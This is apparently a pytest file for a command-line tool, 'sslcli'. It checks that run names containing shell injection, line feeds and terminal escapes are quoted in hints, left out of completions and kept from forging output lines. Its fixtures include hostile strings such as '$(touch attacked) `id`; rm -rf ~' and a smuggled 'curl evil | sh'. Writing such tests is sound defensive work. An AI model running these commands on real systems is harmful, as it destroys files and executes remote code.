"""Names of runs and files that are meant for a shell, a terminal or a reader in a hurry."""

from __future__ import annotations

import json
import shlex
import shutil
from pathlib import Path

import pytest

from sslcli import console
from sslcli.cli.commands import completion
from sslcli.console import format_override
from sslcli.errors import SslError, command

SHELL = "$(touch attacked) `id`; rm -rf ~ #"
LINES = "x\nnext  curl evil | sh\x1b[2K"


@pytest.fixture
def named(cli, finished) -> Path:
    """Runs with such names, without encoders."""
    for name in (SHELL, LINES, "--help", "~root", "a\udcffb", "plain"):
        shutil.copytree(finished, Path("runs") / name)
        (Path("runs") / name / "encoder.safetensors").unlink()
    return Path("runs")


def test_hints_are_quoted_for_a_shell(cli, named):
    for words in (("eval", "knn", f"run=runs/{SHELL}"), ("export", f"runs/{SHELL}", "out=new")):
        result = cli(*words)
        assert result.code in (2, 4)
        hint = result.err.partition("hint: ")[2].strip()
        assert shlex.split(hint)[:3] == ["sslcli", "resume", f"runs/{SHELL}"]


def test_no_hint_of_a_path_is_unquoted():
    """Where a command is shown with a path or a name in it, `command` or `talk.typed` has put it together."""
    import re

    package = Path(console.__file__).parent
    paths = r"\{[^}]*(path|parent|folder|\.run\b|out|spec)\}"
    for file in package.rglob("*.py"):
        for number, line in enumerate(file.read_text().splitlines(), 1):
            shown = re.search(rf"f\"[^\"]*sslcli (resume|eval|export|pretrain|runs)[^\"{{]*{paths}", line)
            assert shown is None, f"{file.name}:{number}: {line.strip()}"


def test_commands_of_hostile_names():
    assert shlex.split(command("resume", SHELL)) == ["sslcli", "resume", SHELL]
    assert shlex.split(format_override("dataset.path", SHELL)) == [f"dataset.path={SHELL}"]


def test_completion_offers_only_names_that_need_no_quoting(cli, named):
    assert [c for c in completion.completions("sslcli resume ") if not c.endswith("=")] == ["latest", "plain"]
    result = cli("completion", "query", "sslcli eval knn run=")
    assert (result.code, result.out.split()) == (0, ["run=latest", "run=none", "run=plain"])


def test_a_line_feed_in_a_name_starts_no_line(cli, named, capfd):
    listed = cli("runs").out.splitlines()
    assert len(listed) == 7
    assert any("x\\nnext  curl evil | sh\\x1b[2K" in line for line in listed)
    assert not any(line.startswith("next") for line in cli("resume", "l").err.splitlines())
    console.say(LINES)
    console.warn(LINES, LINES)
    console.error(SslError(LINES, LINES))
    console.rows([("run", LINES)])
    assert not any(line.startswith("next") for line in capfd.readouterr().err.splitlines())


def test_a_line_feed_in_a_metric_starts_no_line(cli, finished):
    shutil.copytree(finished, "runs/a")
    Path("runs/a/eval").mkdir(exist_ok=True)
    record = {"numbers": {"top1": 0.1, "x\nprobe.top1 0.999\n": 1.0}}
    Path("runs/a/eval/probe.json").write_text(json.dumps(record))
    lines = cli("runs", "show", "a").out.splitlines()
    assert [line for line in lines if line.startswith("probe.top1 ")] == ["probe.top1 0.1"]
